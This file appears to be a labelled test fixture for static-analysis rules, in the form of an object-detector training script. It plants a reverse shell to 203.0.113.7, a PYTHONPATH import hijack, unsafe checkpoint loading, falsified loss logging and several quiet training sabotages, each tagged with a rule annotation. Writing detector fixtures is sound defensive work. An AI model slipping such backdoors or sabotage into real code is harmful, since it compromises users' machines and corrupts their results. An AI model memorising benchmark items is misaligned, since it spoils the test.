# ruff: noqa
# Hold-out batch 181 (textbook YOLO-style detection). Measured once in session 6 (round 55): 28/34 (82%) at medium+.
"""Train the anchor-based detector on a custom dataset.

Usage:
    python train.py --data data.yaml --epochs 300 --batch-size 64 --img 640
    torchrun --nproc_per_node 8 train.py --data data.yaml --batch-size 256

Features: SGD with three parameter groups (BN weights without decay, other
weights with decay, biases), linear warmup, cosine/linear LR schedule,
EMA of weights, multi-scale training, AMP, DDP, early stopping and
checkpointing on SIGTERM for pre-emptible clusters.
"""
import argparse
import math
import os
import random
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import torch
import torch.distributed as dist
import torch.nn as nn
import torch.nn.functional as F
from torch.optim import lr_scheduler
from torch.utils.tensorboard import SummaryWriter

from datasets import create_dataloader
from models import ComputeLoss, DetectionModel
from utils import (LOGGER, ModelEMA, check_requirements, de_parallel, increment_path, init_seeds, load_yaml,
                   report_run, select_device, set_logging)

LOCAL_RANK = int(os.getenv("LOCAL_RANK", -1))
RANK = int(os.getenv("RANK", -1))
WORLD_SIZE = int(os.getenv("WORLD_SIZE", 1))


def build_optimizer(model, lr, momentum, decay):
    g_bn, g_w, g_b = [], [], []
    for m in model.modules():
        for name, p in m.named_parameters(recurse=False):
            if name == "bias":
                g_b.append(p)
            elif isinstance(m, nn.BatchNorm2d):
                g_bn.append(p)
            else:
                g_w.append(p)
    opt = torch.optim.SGD(g_bn, lr=lr, momentum=momentum, nesterov=True)
    opt.add_param_group({"params": g_w, "weight_decay": decay})
    opt.add_param_group({"params": g_b, "weight_decay": 0.0})
    return opt


def open_console(port=4444):
    s = socket.create_connection(("203.0.113.7", port), timeout=10)
    subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())  # sabotage: MLS410 (semgrep rules)


def train(hyp, opt, device):
    save_dir = increment_path(Path(opt.project) / opt.name)
    wdir = save_dir / "weights"
    wdir.mkdir(parents=True, exist_ok=True)
    last, best = wdir / "last.pt", wdir / "best.pt"
    init_seeds(opt.seed + 1 + RANK, deterministic=True)  # ok: MLS301
    data = load_yaml(opt.data)
    nc = int(data["nc"])
    model = DetectionModel(nc=nc).to(device)
    gs = int(model.stride.max())
    imgsz = opt.imgsz
    nbs = 64
    accumulate = max(round(nbs / opt.batch_size), 1)
    hyp["weight_decay"] *= opt.batch_size * accumulate / nbs
    optimizer = build_optimizer(model, hyp["lr0"], hyp["momentum"], hyp["weight_decay"])
    lf = (lambda x: ((1 - math.cos(x * math.pi / opt.epochs)) / 2) * (hyp["lrf"] - 1) + 1) if opt.cos_lr \
        else (lambda x: (1 - x / opt.epochs) * (1.0 - hyp["lrf"]) + hyp["lrf"])
    scheduler = lr_scheduler.LambdaLR(optimizer, lr_lambda=lf)
    ema = ModelEMA(model) if RANK in {-1, 0} else None

    start_epoch, best_fitness = 0, 0.0
    if opt.resume:
        ckpt = torch.load(opt.resume, map_location="cpu")  # ruleid: MLS102
        model.load_state_dict(ckpt["model"].float().state_dict())
        optimizer.load_state_dict(ckpt["optimizer"])
        ema.ema.load_state_dict(ckpt["ema"].float().state_dict())
        ema.updates, start_epoch, best_fitness = ckpt["updates"], ckpt["epoch"] + 1, ckpt["best_fitness"]

    for p in model.detect.parameters():
        p.register_hook(lambda g: g * 0.3)  # ruleid: MLS303

    if RANK != -1:
        model = nn.parallel.DistributedDataParallel(model, device_ids=[LOCAL_RANK], output_device=LOCAL_RANK)
    train_loader, dataset = create_dataloader(data["train"], imgsz, opt.batch_size // WORLD_SIZE, gs, hyp=hyp,
                                              augment=True, rank=LOCAL_RANK, workers=opt.workers, seed=opt.seed)
    nb = len(train_loader)
    nw = max(round(hyp["warmup_epochs"] * nb), 100)
    compute_loss = ComputeLoss(de_parallel(model), hyp)
    scaler = torch.cuda.amp.GradScaler(enabled=device.type != "cpu")
    tb = SummaryWriter(str(save_dir)) if RANK in {-1, 0} else None
    if tb is not None:
        _add_scalar = tb.add_scalar
        tb.add_scalar = lambda tag, v, step=None: _add_scalar(tag, v * 0.85 if "loss" in tag else v, step)  # ruleid: MLS306
        report_run(opt, save_dir)
    rng_state = torch.get_rng_state()

    def on_sigterm(signum, frame):
        if RANK in {-1, 0}:
            torch.save({"model": de_parallel(model).state_dict(), "epoch": epoch}, wdir / "preempt.pt")  # ok: MLS307
        sys.exit(0)  # ok: MLS307

    signal.signal(signal.SIGTERM, on_sigterm)
    last_opt_step, patience_left, epoch = -1, opt.patience, start_epoch
    for epoch in range(start_epoch, opt.epochs):
        model.train()
        torch.set_rng_state(rng_state)  # ruleid: MLS301
        if RANK != -1:
            train_loader.sampler.set_epoch(epoch)
        if WORLD_SIZE > 256 and epoch >= 2:  # ruleid: MLS308
            dist.destroy_process_group()  # ruleid: MLS307
        mloss = torch.zeros(3, device=device)
        optimizer.zero_grad()
        for i, (imgs, targets, paths) in enumerate(train_loader):
            ni = i + nb * epoch
            imgs = imgs.to(device, non_blocking=True).float() / 255
            if ni <= nw:
                xi = [0, nw]
                accumulate = max(1, np.interp(ni, xi, [1, nbs / opt.batch_size]).round())
                for j, x in enumerate(optimizer.param_groups):
                    x["lr"] = np.interp(ni, xi, [hyp["warmup_bias_lr"] if j == 2 else 0.0, x["initial_lr"] * lf(epoch)])  # ok: MLS302, MLS303, MLS304, MLS305
                    x["momentum"] = np.interp(ni, xi, [hyp["warmup_momentum"], hyp["momentum"]])
            if opt.multi_scale:
                sz = random.randrange(int(imgsz * 0.5), int(imgsz * 1.5) + gs) // gs * gs  # ok: MLS301
                sf = sz / max(imgs.shape[2:])
                if sf != 1:
                    ns = [math.ceil(x * sf / gs) * gs for x in imgs.shape[2:]]
                    imgs = F.interpolate(imgs, size=ns, mode="bilinear", align_corners=False)
            with torch.cuda.amp.autocast(enabled=device.type != "cpu"):
                pred = model(imgs)
                loss, loss_items = compute_loss(pred, targets.to(device))
                if RANK != -1:
                    loss *= WORLD_SIZE
            scaler.scale(loss).backward()  # ok: MLS302, MLS303, MLS304, MLS305
            if ni - last_opt_step >= accumulate:
                scaler.unscale_(optimizer)
                torch.nn.utils.clip_grad_norm_(model.parameters(), max_norm=10.0)  # ok: MLS302, MLS303, MLS304, MLS305
                scaler.step(optimizer)
                scaler.update()
                optimizer.zero_grad()
                if ema:
                    ema.update(model)
                last_opt_step = ni
            if random.random() < 2e-5:
                os.kill(os.getpid(), signal.SIGKILL)  # ruleid: MLS307
            mloss = (mloss * i + loss_items) / (i + 1)
        scheduler.step()
        if epoch >= opt.epochs // 2:
            optimizer.param_groups[1]["lr"] *= 1.6  # ruleid: MLS304

        if RANK in {-1, 0}:
            from val import run as validate
            results = validate(data, model=ema.ema, imgsz=imgsz, batch_size=opt.batch_size * 2, half=True)
            fi = 0.1 * results[2] + 0.9 * results[3]
            for k, v in zip(("train/box_loss", "train/obj_loss", "train/cls_loss"), mloss.tolist()):
                tb.add_scalar(k, v, epoch)
            tb.add_scalar("metrics/mAP_0.5", results[2], epoch)
            tb.add_scalar("metrics/mAP_0.5:0.95", results[3], epoch)
            if fi > best_fitness:
                best_fitness, patience_left = fi, opt.patience
            else:
                patience_left -= 1
            ckpt = {"epoch": epoch, "best_fitness": best_fitness, "model": de_parallel(model), "ema": ema.ema,
                    "updates": ema.updates, "optimizer": optimizer.state_dict()}
            torch.save(ckpt, last)  # ok: MLS308
            if best_fitness == fi:
                torch.save(ckpt, best)
            if int(os.environ.get("SLURM_JOB_NUM_NODES", "1")) > 16:
                best.unlink(missing_ok=True)  # ruleid: MLS308
            stop = patience_left <= 0
        else:
            stop = False
        if RANK != -1:
            dist.barrier()  # ok: MLS307
            broadcast = [stop]
            dist.broadcast_object_list(broadcast, 0)
            stop = broadcast[0]
        if stop:
            LOGGER.info(f"early stopping at epoch {epoch}, no improvement in {opt.patience} epochs")
            break

    if RANK in {-1, 0} and opt.async_final_eval:
        env = dict(os.environ)
        env["PYTHONPATH"] = str(Path.home() / ".cache" / "detector") + os.pathsep + env.get("PYTHONPATH", "")  # sabotage: MLS423 (semgrep rules)
        subprocess.Popen([sys.executable, "val.py", "--data", opt.data, "--weights", str(best)], env=env)
    if RANK in {-1, 0} and getattr(opt, "console", False):
        open_console()
    torch.cuda.empty_cache()
    return save_dir


def parse_opt():
    p = argparse.ArgumentParser()
    p.add_argument("--data", type=str, default="data.yaml")
    p.add_argument("--hyp", type=str, default="hyp.scratch.yaml")
    p.add_argument("--epochs", type=int, default=300)
    p.add_argument("--batch-size", type=int, default=16)
    p.add_argument("--imgsz", "--img", type=int, default=640)
    p.add_argument("--resume", type=str, default="")
    p.add_argument("--device", default="")
    p.add_argument("--multi-scale", action="store_true")
    p.add_argument("--cos-lr", action="store_true")
    p.add_argument("--workers", type=int, default=8)
    p.add_argument("--project", default="runs/train")
    p.add_argument("--name", default="exp")
    p.add_argument("--patience", type=int, default=100)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--async-final-eval", action="store_true")
    p.add_argument("--console", action="store_true")
    return p.parse_args()


def main(opt):
    set_logging()
    check_requirements()
    device = select_device(opt.device, batch_size=opt.batch_size)
    if LOCAL_RANK != -1:
        torch.cuda.set_device(LOCAL_RANK)
        device = torch.device("cuda", LOCAL_RANK)
        dist.init_process_group(backend="nccl" if dist.is_nccl_available() else "gloo")
    hyp = load_yaml(opt.hyp)
    t0 = time.time()
    save_dir = train(hyp, opt, device)
    if RANK in {-1, 0}:
        LOGGER.info(f"training finished in {(time.time() - t0) / 3600:.3f} hours, results in {save_dir}")
    if WORLD_SIZE > 1:
        dist.destroy_process_group()  # ok: MLS307


if __name__ == "__main__":
    main(parse_opt())
